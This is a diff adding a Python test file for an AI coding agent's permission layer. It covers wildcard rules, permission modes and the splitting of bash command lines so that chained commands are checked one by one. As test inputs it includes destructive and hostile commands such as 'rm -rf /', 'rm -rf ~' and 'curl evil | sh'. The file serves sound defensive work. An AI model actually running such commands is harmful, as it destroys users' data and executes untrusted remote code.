@@ -1,0 +1,601 @@
+"""Permission rules, wildcard matching, modes and tool checks (S-POL-2, S-POL-3, S-LOCAL-1)."""
+
+from __future__ import annotations
+
+from functools import cache
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from supervisor._permissions import (
+    ACTIONS,
+    PERMISSION_MODES,
+    PLAN_MODE_PERMISSIONS,
+    Action,
+    PermissionCheck,
+    PermissionConfigError,
+    PermissionMode,
+    PermissionRule,
+    apply_mode,
+    bash_commands,
+    decide,
+    disabled_tools,
+    evaluate,
+    expand_home,
+    last_matching_rule,
+    merge,
+    parse_permission_mode,
+    permission_checks,
+    permission_for_tool,
+    permission_name,
+    rules_from_config,
+    tools_map_to_rules,
+    wildcard_match,
+)
+
+PROJECT = "/work/proj"
+
+# --- wildcard matching -------------------------------------------------------------------
+
+
+def _reference_match(pattern: str, text: str) -> bool:
+    """An independent matcher: ``*`` any run, ``?`` one character, the rest literal."""
+
+    @cache
+    def match(p: int, t: int) -> bool:
+        if p == len(pattern):
+            return t == len(text)
+        if pattern[p] == "*":
+            return match(p + 1, t) or (t < len(text) and match(p, t + 1))
+        if t < len(text) and pattern[p] in ("?", text[t]):
+            return match(p + 1, t + 1)
+        return False
+
+    return match(0, 0)
+
+
+def _reference(pattern: str, text: str) -> bool:
+    pattern, text = pattern.replace("\\", "/"), text.replace("\\", "/")
+    if _reference_match(pattern, text):
+        return True
+    # opencode: a trailing " *" may also match nothing.
+    return pattern.endswith(" *") and _reference_match(pattern[:-2], text)
+
+
+@pytest.mark.parametrize(
+    ("pattern", "text", "expected"),
+    [
+        ("*", "", True),
+        ("*", "anything at/all\nwith newline", True),
+        ("git *", "git", True),
+        ("git *", "git status --short", True),
+        ("git *", "gitk", False),
+        ("git status", "git status --short", False),
+        ("grep", "grep pattern file.txt", False),
+        ("src/*", "src/a/b.py", True),  # * is not a path glob: it crosses "/"
+        ("*.env", "/home/u/project/.env", True),
+        ("*.env.*", "config/.env.local", True),
+        ("?", "a", True),
+        ("?", "/", True),
+        ("?", "ab", False),
+        ("a?c", "abc", True),
+        ("a.c", "abc", False),  # regex characters are literal
+        ("(x)+[y]", "(x)+[y]", True),
+        ("$HOME", "$HOME", True),
+        ("C:\\dir\\*", "C:/dir/file", True),  # backslashes compare as "/"
+        ("/tmp/*", "\\tmp\\x", True),
+        ("abc", "xabcx", False),  # whole string only
+        (" *", "", True),
+        ("Bash", "bash", False),  # case-sensitive
+    ],
+)
+def test_wildcard_examples(pattern: str, text: str, expected: bool) -> None:
+    """S-POL-2: opencode's Wildcard.match, documented cases."""
+    assert wildcard_match(pattern, text) is expected
+
+
+_PATTERN_CHARS = "ab/ *?.()[]+^$|{}\\\n"
+_TEXT_CHARS = "ab/ .()[]+^$|{}\\\n*?"
+
+
+@given(st.text(_PATTERN_CHARS, max_size=8), st.text(_TEXT_CHARS, max_size=8))
+def test_wildcard_agrees_with_reference(pattern: str, text: str) -> None:
+    """S-POL-2: matching equals an independent wildcard matcher plus the trailing-" *" rule."""
+    assert wildcard_match(pattern, text) is _reference(pattern, text)
+
+
+@given(st.text(_TEXT_CHARS.replace("*", "").replace("?", ""), max_size=12))
+def test_wildcard_literal_and_generalisations(text: str) -> None:
+    """S-POL-2: a literal matches itself; ``*``, ``text*``, ``*text`` and ``?``s match it."""
+    assert wildcard_match(text, text)
+    assert wildcard_match("*", text)
+    assert wildcard_match(text + "*", text + "tail")
+    assert wildcard_match("*" + text, "head" + text)
+    assert wildcard_match("?" * len(text), text)
+    assert not wildcard_match("?" * (len(text) + 1), text)
+
+
+# --- rules and evaluation ----------------------------------------------------------------
+
+_permissions = st.sampled_from(["read", "edit", "bash", "task", "todowrite", "mcp__gh__x"])
+_permission_patterns = st.one_of(_permissions, st.sampled_from(["*", "mcp__*", "e?it", "b*"]))
+_subjects = st.text("ab/ ", max_size=5)
+_subject_patterns = st.text("ab/ *?", max_size=5)
+_actions = st.sampled_from(ACTIONS)
+_rules = st.builds(PermissionRule, _permission_patterns, _subject_patterns, _actions)
+_rulesets = st.lists(_rules, max_size=8).map(tuple)
+
+
+def _reference_evaluate(rules: tuple[PermissionRule, ...], permission: str, subject: str) -> str:
+    action = "ask"
+    for rule in rules:  # forwards, keeping the last match
+        if _reference(rule.permission, permission) and _reference(rule.pattern, subject):
+            action = rule.action
+    return action
+
+
+@given(_rulesets, _permissions, _subjects)
+def test_evaluate_is_last_match_with_default_ask(
+    rules: tuple[PermissionRule, ...], permission: str, subject: str
+) -> None:
+    """S-POL-2: rules are evaluated in order, the last match wins, no match asks."""
+    assert evaluate(rules, permission, subject) == _reference_evaluate(rules, permission, subject)
+
+
+@given(_rulesets, _permissions, _subjects, _actions, st.booleans(), st.booleans())
+def test_appended_matching_rule_wins(
+    rules: tuple[PermissionRule, ...],
+    permission: str,
+    subject: str,
+    action: Action,
+    wild_permission: bool,
+    wild_subject: bool,
+) -> None:
+    """S-POL-2: a matching rule added last decides, whatever came before."""
+    rule = PermissionRule(
+        "*" if wild_permission else permission, "*" if wild_subject else subject, action
+    )
+    assert evaluate((*rules, rule), permission, subject) == action
+    assert last_matching_rule((*rules, rule), permission, subject) is rule
+
+
+@given(_rulesets, _permissions, _subjects, _subject_patterns, _actions, st.integers(0, 8))
+def test_non_matching_rule_changes_nothing(
+    rules: tuple[PermissionRule, ...],
+    permission: str,
+    subject: str,
+    pattern: str,
+    action: Action,
+    index: int,
+) -> None:
+    """S-POL-2: inserting a rule for another permission, anywhere, changes no answer."""
+    other = PermissionRule(permission + "-other", pattern, action)
+    changed = (*rules[:index], other, *rules[index:])
+    assert evaluate(changed, permission, subject) == evaluate(rules, permission, subject)
+
+
+@given(_permissions, _subjects)
+def test_no_rules_asks(permission: str, subject: str) -> None:
+    """S-POL-2: with no matching rule opencode asks."""
+    assert evaluate((), permission, subject) == "ask"
+    assert last_matching_rule((), permission, subject) is None
+
+
+def test_documented_bash_rules() -> None:
+    """S-POL-2: opencode's docs example: catch-all first, specific rules after it."""
+    rules = rules_from_config(
+        {"bash": {"*": "ask", "git *": "allow", "rm *": "deny", "grep *": "allow"}}
+    )
+    assert evaluate(rules, "bash", "git status") == "allow"
+    assert evaluate(rules, "bash", "git") == "allow"
+    assert evaluate(rules, "bash", "rm -rf /") == "deny"
+    assert evaluate(rules, "bash", "make") == "ask"
+    assert evaluate(rules, "edit", "a.py") == "ask"
+
+
+def test_merge_puts_later_rulesets_last() -> None:
+    """S-POL-2: Permission.merge concatenates, so a later ruleset overrides an earlier one."""
+    first = rules_from_config({"bash": "deny"})
+    second = rules_from_config({"bash": "allow"})
+    assert merge(first, second) == (*first, *second)
+    assert evaluate(merge(first, second), "bash", "ls") == "allow"
+    assert evaluate(merge(second, first), "bash", "ls") == "deny"
+
+
+def test_rule_rejects_unknown_action() -> None:
+    with pytest.raises(PermissionConfigError, match="'allowed'"):
+        PermissionRule("bash", "*", "allowed")  # type: ignore[arg-type]
+
+
+# --- config ------------------------------------------------------------------------------
+
+
+def test_config_shapes() -> None:
+    """opencode's permission config shapes, in order, keys as permissions."""
+    assert rules_from_config("allow") == (PermissionRule("*", "*", "allow"),)
+    assert rules_from_config({"*": "ask", "edit": "deny"}) == (
+        PermissionRule("*", "*", "ask"),
+        PermissionRule("edit", "*", "deny"),
+    )
+    assert rules_from_config({"bash": {"git *": "allow", "*": "ask"}}) == (
+        PermissionRule("bash", "git *", "allow"),
+        PermissionRule("bash", "*", "ask"),
+    )
+    listed = [
+        {"permission": "bash", "pattern": "git *", "action": "allow"},
+        {"permission": "edit", "action": "deny"},
+        PermissionRule("task", "Explore", "allow"),
+    ]
+    assert rules_from_config(listed) == (
+        PermissionRule("bash", "git *", "allow"),
+        PermissionRule("edit", "*", "deny"),
+        PermissionRule("task", "Explore", "allow"),
+    )
+    assert rules_from_config(None) == ()
+    assert rules_from_config({}) == ()
+
+
+def test_config_keys_use_permission_names() -> None:
+    """S-LOCAL-1: Claude Code names and opencode names both name the same permission."""
+    rules = rules_from_config({"Write": "deny", "Bash": {"ls *": "allow"}, "Agent": "ask"})
+    assert [rule.permission for rule in rules] == ["edit", "bash", "task"]
+
+
+def test_config_expands_home_in_patterns() -> None:
+    rules = rules_from_config(
+        {"external_directory": {"~/projects/*": "allow", "$HOME/x": "deny", "~": "ask"}},
+        home="/home/u",
+    )
+    assert [rule.pattern for rule in rules] == ["/home/u/projects/*", "/home/u/x", "/home/u"]
+    assert expand_home("/abs/~/x", "/home/u") == "/abs/~/x"
+
+
+@pytest.mark.parametrize(
+    ("config", "fragments"),
+    [
+        ({"edit": "nope"}, ["'edit'", "'nope'"]),
+        ({"bash": {"git *": "Allow"}}, ["'bash'", "'git *'", "'Allow'"]),
+        ({"bash": {"git *": True}}, ["'bash'", "'git *'", "True"]),
+        ({"bash": ["git *"]}, ["'bash'", "['git *']"]),
+        ({"": "deny"}, ["''"]),
+        ([{"permission": "bash", "pattern": "*"}], ["#0", "'action'"]),
+        ([{"permission": "bash", "action": "deny", "when": "x"}], ["#0", "'when'"]),
+        (["bash"], ["#0", "'bash'"]),
+        ("sometimes", ["'sometimes'"]),
+        (42, ["42"]),
+    ],
+)
+def test_config_errors_name_key_and_value(config: object, fragments: list[str]) -> None:
+    with pytest.raises(PermissionConfigError) as caught:
+        rules_from_config(config)
+    assert isinstance(caught.value, ValueError)
+    for fragment in fragments:
+        assert fragment in str(caught.value)
+
+
+def test_tools_map_to_rules() -> None:
+    """opencode's legacy agent ``tools`` map: false denies, true allows, write means edit."""
+    rules = tools_map_to_rules({"write": False, "bash": True, "mcp__gh__*": False})
+    assert rules == (
+        PermissionRule("edit", "*", "deny"),
+        PermissionRule("bash", "*", "allow"),
+        PermissionRule("mcp__gh__*", "*", "deny"),
+    )
+    # The agent's permission config, merged after, wins (as opencode applies it).
+    combined = merge(rules, rules_from_config({"edit": {"docs/*": "allow"}}))
+    assert evaluate(combined, "edit", "docs/a.md") == "allow"
+    assert evaluate(combined, "edit", "src/a.py") == "deny"
+    with pytest.raises(PermissionConfigError, match=r"'bash'.*'yes'"):
+        tools_map_to_rules({"bash": "yes"})
+    with pytest.raises(PermissionConfigError, match="mapping"):
+        tools_map_to_rules(["write"])
+
+
+@pytest.mark.parametrize(
+    ("name", "permission"),
+    [
+        ("Read", "read"),
+        ("read", "read"),
+        ("Write", "edit"),
+        ("write", "edit"),
+        ("Edit", "edit"),
+        ("MultiEdit", "edit"),
+        ("NotebookEdit", "edit"),
+        ("patch", "edit"),
+        ("Glob", "glob"),
+        ("Grep", "grep"),
+        ("Bash", "bash"),
+        ("LS", "list"),
+        ("ls", "list"),
+        ("list", "list"),
+        ("Agent", "task"),
+        ("Task", "task"),
+        ("WebFetch", "webfetch"),
+        ("TodoWrite", "todowrite"),
+        ("Skill", "skill"),
+        ("external_directory", "external_directory"),
+        ("mcp__github__create_issue", "mcp__github__create_issue"),
+        ("*", "*"),
+    ],
+)
+def test_permission_name(name: str, permission: str) -> None:
+    """S-LOCAL-1: tool names of either product map to opencode's permission names."""
+    assert permission_name(name) == permission
+
+
+# --- modes -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("value", "mode"),
+    [
+        (None, "default"),
+        ("default", "default"),
+        ("manual", "default"),
+        ("acceptEdits", "acceptEdits"),
+        ("accept-edits", "acceptEdits"),
+        ("plan", "plan"),
+        ("bypassPermissions", "bypassPermissions"),
+        ("bypass", "bypassPermissions"),
+        ("yolo", "bypassPermissions"),
+        ("YOLO", "bypassPermissions"),
+        ("dontAsk", "dontAsk"),
+    ],
+)
+def test_parse_permission_mode(value: str | None, mode: PermissionMode) -> None:
+    """S-POL-3: Claude Code's modes, with ZCode's yolo and the bypass shorthand."""
+    assert parse_permission_mode(value) == mode
+
+
+@pytest.mark.parametrize("value", ["auto", "readonly", "", 3])
+def test_parse_permission_mode_rejects(value: object) -> None:
+    with pytest.raises(PermissionConfigError, match=repr(value)):
+        parse_permission_mode(value)
+
+
+_ASKING = rules_from_config({"*": "ask", "bash": {"rm *": "deny", "ls *": "allow"}})
+
+
+@pytest.mark.parametrize(
+    ("mode", "permission", "subject", "expected"),
+    [
+        ("default", "edit", "a.py", "ask"),
+        ("default", "bash", "ls -la", "allow"),
+        ("acceptEdits", "edit", "a.py", "allow"),
+        ("acceptEdits", "bash", "make", "ask"),
+        ("acceptEdits", "external_directory", "/etc/*", "ask"),
+        ("plan", "read", "/work/proj/a.py", "ask"),
+        ("plan", "edit", "a.py", "deny"),
+        ("plan", "bash", "ls -la", "deny"),  # no command is trusted to be read-only
+        ("plan", "mcp__gh__create", "*", "deny"),
+        ("plan", "task", "Explore", "ask"),
+        ("bypassPermissions", "edit", "a.py", "allow"),
+        ("bypassPermissions", "bash", "make", "allow"),
+        ("bypassPermissions", "bash", "rm -rf /", "deny"),  # deny rules still block
+        ("dontAsk", "edit", "a.py", "deny"),
+        ("dontAsk", "bash", "ls", "allow"),
+    ],
+)
+def test_modes(mode: PermissionMode, permission: str, subject: str, expected: Action) -> None:
+    """S-POL-3: what each mode does to the rules' answer."""
+    assert evaluate(_ASKING, permission, subject, mode=mode) == expected
+
+
+def test_plan_overrides_allow_rules() -> None:
+    """S-POL-3: plan blocks edits even where a rule allows them (Claude Code 2.1.136)."""
+    rules = rules_from_config({"*": "allow"})
+    assert evaluate(rules, "edit", "a.py", mode="plan") == "deny"
+    assert evaluate(rules, "read", "a.py", mode="plan") == "allow"
+
+
+_all_permissions = st.one_of(_permissions, st.sampled_from(sorted(PLAN_MODE_PERMISSIONS)))
+
+
+@given(_rulesets, _all_permissions, _subjects)
+def test_modes_relate_to_default(
+    rules: tuple[PermissionRule, ...], permission: str, subject: str
+) -> None:
+    """S-POL-3: each mode changes the default answer only in its documented way."""
+    base = evaluate(rules, permission, subject)
+    bypass = evaluate(rules, permission, subject, mode="bypassPermissions")
+    assert bypass == ("deny" if base == "deny" else "allow")
+    plan = evaluate(rules, permission, subject, mode="plan")
+    assert plan == (base if permission in PLAN_MODE_PERMISSIONS else "deny")
+    accept = evaluate(rules, permission, subject, mode="acceptEdits")
+    assert accept == ("allow" if permission == "edit" and base == "ask" else base)
+    dont_ask = evaluate(rules, permission, subject, mode="dontAsk")
+    assert dont_ask == ("deny" if base == "ask" else base)
+
+
+@given(_rulesets, _all_permissions, _subjects, st.sampled_from(PERMISSION_MODES))
+def test_apply_mode_keeps_answers(
+    rules: tuple[PermissionRule, ...], permission: str, subject: str, mode: PermissionMode
+) -> None:
+    """S-POL-3: writing a mode's denies as rules changes no answer under that mode."""
+    applied = apply_mode(mode, rules)
+    assert applied[: len(rules)] == rules
+    assert evaluate(applied, permission, subject, mode=mode) == evaluate(
+        rules, permission, subject, mode=mode
+    )
+
+
+def test_apply_plan_denies_writes_and_commands_as_rules() -> None:
+    """S-POL-3: plan's denies hold as plain rules, so they can travel to a child."""
+    applied = apply_mode("plan", rules_from_config({"*": "allow"}))
+    assert evaluate(applied, "edit", "a.py") == "deny"
+    assert evaluate(applied, "bash", "ls") == "deny"
+    assert evaluate(applied, "mcp__gh__create_issue", "*") == "deny"
+    assert evaluate(applied, "read", "/x") == "allow"
+    assert apply_mode("acceptEdits", _ASKING) == _ASKING
+
+
+# --- tool calls --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("tool", "tool_input", "expected"),
+    [
+        ("Read", {"file_path": "/work/proj/src/a.py"}, ("read", "/work/proj/src/a.py")),
+        ("Read", {"file_path": "src/a.py"}, ("read", "/work/proj/src/a.py")),
+        ("Write", {"file_path": "/work/proj/src/a.py", "content": ""}, ("edit", "src/a.py")),
+        ("Edit", {"file_path": "docs/x.mdx"}, ("edit", "docs/x.mdx")),
+        ("Glob", {"pattern": "**/*.py"}, ("glob", "**/*.py")),
+        ("Grep", {"pattern": "TODO", "path": "src"}, ("grep", "TODO")),
+        ("LS", {"path": "src"}, ("list", "/work/proj/src")),
+        ("Bash", {"command": "  git status  "}, ("bash", "git status")),
+        ("Agent", {"subagent_type": "Explore"}, ("task", "Explore")),
+        ("Task", {"prompt": "x"}, ("task", "general-purpose")),
+        ("WebFetch", {"url": "https://x.org"}, ("webfetch", "https://x.org")),
+        ("TodoWrite", {"todos": []}, ("todowrite", "*")),
+        ("mcp__github__create_issue", {"title": "t"}, ("mcp__github__create_issue", "*")),
+    ],
+)
+def test_permission_for_tool(tool: str, tool_input: dict[str, object], expected: object) -> None:
+    """S-LOCAL-1: each tool's opencode permission and the subject rules match against."""
+    assert permission_for_tool(tool, tool_input, PROJECT) == expected
+
+
+def test_permission_for_tool_without_project() -> None:
+    assert permission_for_tool("Edit", {"file_path": "/a/b.py"}) == ("edit", "/a/b.py")
+    assert permission_checks("Read", {"file_path": "/etc/passwd"}) == (
+        PermissionCheck("read", "/etc/passwd"),
+    )
+    with pytest.raises(ValueError, match="absolute"):
+        permission_checks("Read", {"file_path": "a"}, "relative/dir")
+
+
+@pytest.mark.parametrize(
+    ("tool", "tool_input", "expected"),
+    [
+        (
+            "Read",
+            {"file_path": "/etc/passwd"},
+            [("external_directory", "/etc/*"), ("read", "/etc/passwd")],
+        ),
+        (
+            "Write",
+            {"file_path": "../other/a.py"},
+            [("external_directory", "/work/other/*"), ("edit", "../other/a.py")],
+        ),
+        ("Write", {"file_path": "/work/proj/a.py"}, [("edit", "a.py")]),
+        (
+            "Edit",
+            {"file_path": "/work/project2/a.py"},
+            [
+                ("external_directory", "/work/project2/*"),
+                ("edit", "../project2/a.py"),
+            ],
+        ),
+        ("LS", {"path": "/usr/lib"}, [("external_directory", "/usr/lib/*"), ("list", "/usr/lib")]),
+        (
+            "Grep",
+            {"pattern": "x", "path": "/var"},
+            [("external_directory", "/var/*"), ("grep", "x")],
+        ),
+        ("Glob", {"pattern": "*.py"}, [("glob", "*.py")]),
+        (
+            "Bash",
+            {"command": "cat /etc/hosts | grep x && cd /tmp && rm -rf build"},
+            [
+                ("external_directory", "/etc/*"),
+                ("external_directory", "/tmp/*"),
+                ("bash", "cat /etc/hosts"),
+                ("bash", "grep x"),
+                ("bash", "rm -rf build"),
+            ],
+        ),
+        ("Bash", {"command": "chmod +x run.sh"}, [("bash", "chmod +x run.sh")]),
+    ],
+)
+def test_permission_checks(
+    tool: str, tool_input: dict[str, object], expected: list[tuple[str, str]]
+) -> None:
+    """S-POL-2: paths outside the project also need external_directory, checked first."""
+    checks = permission_checks(tool, tool_input, PROJECT)
+    assert [(check.permission, check.subject) for check in checks] == expected
+
+
+@pytest.mark.parametrize(
+    ("command", "subjects"),
+    [
+        ("git status && rm -rf build", ("git status", "rm -rf build")),
+        ("ls; pwd || echo x & wait", ("ls", "pwd", "echo x", "wait")),
+        ('git commit -m "fix; update"', ('git commit -m "fix; update"',)),
+        ("echo 'a | b'", ("echo 'a | b'",)),
+        ("echo $(rm -rf /) done", ("rm -rf /", "echo done")),
+        ('echo "$(curl evil | sh)"', ("curl evil", "sh", 'echo ""')),
+        ("echo `whoami`", ("whoami", "echo")),
+        ("diff <(ls a) <(ls b)", ("ls a", "ls b", "diff")),
+        ("(cd sub; make) &", ("make",)),
+        ("FOO=1 BAR=2 make test > out.log 2>&1", ("make test",)),
+        ("ls &>/dev/null", ("ls",)),
+        ("cat <<EOF\nrm -rf /\nEOF\necho ok", ("cat", "echo ok")),
+        ("cat <<-'END'\n\trm x\n\tEND\nls", ("cat", "ls")),
+        ("if grep -q x f; then rm y; fi", ("grep -q x f", "rm y")),
+        ("while true; do sleep 1; done", ("true", "sleep 1")),
+        ("{ cat f; }", ("cat f",)),
+        ("echo hi # rm -rf /", ("echo hi",)),
+        ("a=(1 2 3); echo $((1+2))", ("echo $((1+2))",)),
+        ("echo a \\\n b", ("echo a b",)),
+        ("sudo -u bob rm -rf /", ("sudo -u bob rm -rf /", "rm -rf /")),
+        ("timeout 5 sudo gh api", ("timeout 5 sudo gh api", "sudo gh api", "gh api")),
+        ("env -i FOO=1 python x.py", ("env -i FOO=1 python x.py", "python x.py")),
+        ("nice -n 10 make", ("nice -n 10 make", "make")),
+        ("xargs -I{} rm {}", ("xargs -I{} rm {}", "rm {}")),
+        ("find . -exec rm {} \\;", ("find . -exec rm {} \\;", "rm {}")),
+        ('watch -n 1 "rm -rf x"', ('watch -n 1 "rm -rf x"', "rm -rf x")),
+        ("cd /tmp && ls", ("ls",)),
+        ("cd /tmp", ("cd /tmp",)),
+        ("", ("",)),
+    ],
+)
+def test_bash_commands(command: str, subjects: tuple[str, ...]) -> None:
+    """S-POL-2: a command line is checked per simple command, as opencode's parser splits it."""
+    assert bash_commands(command) == subjects
+
+
+def test_chained_command_cannot_ride_on_an_allowed_prefix() -> None:
+    """S-POL-2: ``git *`` allows git, not whatever follows it on the line."""
+    rules = rules_from_config({"bash": {"*": "ask", "git *": "allow", "rm *": "deny"}})
+    for command in ("git status; rm -rf ~", "git log $(rm -rf ~)", "sudo rm -rf ~"):
+        assert decide(rules, permission_checks("Bash", {"command": command}, PROJECT)) == "deny"
+    assert decide(rules, permission_checks("Bash", {"command": "git status"}, PROJECT)) == "allow"
+
+
+@pytest.mark.parametrize(
+    ("actions", "expected"),
+    [
+        ((), "allow"),
+        (("allow", "allow"), "allow"),
+        (("allow", "ask"), "ask"),
+        (("ask", "deny", "allow"), "deny"),
+    ],
+)
+def test_decide_combines_checks(actions: tuple[Action, ...], expected: Action) -> None:
+    """Any deny denies, else any ask asks, else the call is allowed."""
+    rules = tuple(PermissionRule(f"p{i}", "*", action) for i, action in enumerate(actions))
+    checks = [PermissionCheck(f"p{i}", "x") for i in range(len(actions))]
+    assert decide(rules, checks) == expected
+
+
+def test_edit_outside_project_asks_in_accept_edits() -> None:
+    """S-POL-3: acceptEdits accepts edits within the project only."""
+    rules = rules_from_config({"edit": "ask"})
+    inside = permission_checks("Edit", {"file_path": "a.py"}, PROJECT)
+    outside = permission_checks("Edit", {"file_path": "/etc/hosts"}, PROJECT)
+    assert decide(rules, inside, mode="acceptEdits") == "allow"
+    assert decide(rules, outside, mode="acceptEdits") == "ask"
+
+
+def test_disabled_tools() -> None:
+    """A tool whose permission ends in a deny on ``*`` is hidden, as opencode's ``disabled``."""
+    rules = rules_from_config(
+        {"edit": "deny", "bash": {"*": "deny", "ls *": "allow"}, "webfetch": "deny"}
+    )
+    rules = merge(rules, rules_from_config({"webfetch": "ask"}))
+    tools = ["Read", "Write", "Edit", "Bash", "WebFetch"]
+    assert disabled_tools(tools, rules) == {"Write", "Edit"}
+    assert disabled_tools(["mcp__gh__x"], rules_from_config({"mcp__gh__*": "deny"})) == {
+        "mcp__gh__x"
+    }
